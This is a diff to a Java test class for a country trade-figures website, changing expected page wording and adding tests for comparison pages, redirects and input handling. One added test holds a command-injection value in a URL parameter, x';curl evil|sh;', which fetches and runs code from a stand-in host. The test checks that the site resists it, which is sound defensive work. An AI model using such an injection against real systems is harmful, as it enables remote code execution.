@@ -38,6 +38,7 @@ class PagesTest {
                 "/KAZ",
                 "/KAZ?indicator=turnover-growth",
                 "/FJI",
+                "/sources",
                 "/sources/the-astana-times-2023-09-20-9c90b008",
                 "/disagreements",
                 "/disagreements?country=kazakhstan&kind=mirror",
@@ -78,11 +79,11 @@ class PagesTest {
     @Test
     void aCountrysPartnersStandInTheirRankWithABoundAsABoundWithoutEnd() {
         assertThat(page("/KAZ"))
-                .contains("Trade turnover, 2022, in the account press.")
+                .contains("Trade turnover, 2022, in the book press.")
                 .contains("<a href=\"KAZ-KOR\">South Korea</a>", "&gt; $6 bn")
                 .contains("<path class=\"sure\" d=\"M0.0 1H87.0V9H0.0z\"/>")
-                .contains("<path class=\"maybe\" d=\"M87.0 1H100.0M87.0 9H100.0\"/>")
-                .contains("248 countries have no figure in this account and period.")
+                .contains("<path class=\"maybe\" d=\"M87.0 1H100.0M87.0 9H100.0M87.0 1V9\"/>")
+                .contains("248 countries have no figure in this book and period.")
                 .contains("What is stated last of each partner", "visa-free, direct, Astana–Podgorica");
     }
 
@@ -124,7 +125,38 @@ class PagesTest {
                 .contains("value=\"KAZ-KOR, KAZ-ROU\"", "Kazakhstan – South Korea, press", "&gt; $6 bn")
                 .contains("“kazakhstan korea” may be KAZ-KOR or KAZ-PRK.", "“xyz” names no two countries.")
                 .contains("/v1/figures?pair=KAZ-KOR,KAZ-ROU&amp;indicator=turnover");
-        assertThat(page("/compare?pairs=KAZ-KEN")).contains("Nothing to draw: none of these pairs has a figure");
+        assertThat(page("/compare?pairs=KAZ-KEN"))
+                .contains("No line of Kazakhstan – Kenya: no figure of turnover with a period");
+    }
+
+    @Test
+    void aPairWithoutALineIsNamedWithTheReason() {
+        assertThat(page("/compare?pairs=KAZ-KOR,KAZ-ROU"))
+                .contains("Kazakhstan – South Korea, press", "No line of Kazakhstan –");
+    }
+
+    @Test
+    void whatSomebodyHangsOnALinkGetsIntoNoCommand() {
+        assertThat(page("/FJI?book=x%27%3Bcurl%20evil%7Csh%3B%27&period=2022%22"))
+                .doesNotContain("evil", "2022&quot;");
+    }
+
+    @Test
+    void aLongListOfPairsIsReadAsFarAsTheFieldGoes() {
+        assertThat(page("/compare?pairs=" + "ab%20cd,".repeat(800))).contains("“ab cd” ");
+    }
+
+    @Test
+    void aPairIsFoundByItsOtherCodes() {
+        for (String other : List.of("/KZ-KR", "/398-410", "/kor-KZ")) {
+            given().redirects()
+                    .follow(false)
+                    .get(other)
+                    .then()
+                    .statusCode(301)
+                    .header("Location", endsWith("/KAZ-KOR"));
+        }
+        given().redirects().follow(false).get("/KZ").then().statusCode(301).header("Location", endsWith("/KAZ"));
     }
 
     @Test
@@ -135,7 +167,7 @@ class PagesTest {
                                 .get(it))
                 .collect(Collectors.joining(","));
         assertThat(page("/compare?pairs=" + pairs))
-                .contains("At most 6 pairs are drawn")
+                .contains("No more than 6 pairs are drawn")
                 .doesNotContain("KAZ-USA");
     }
 
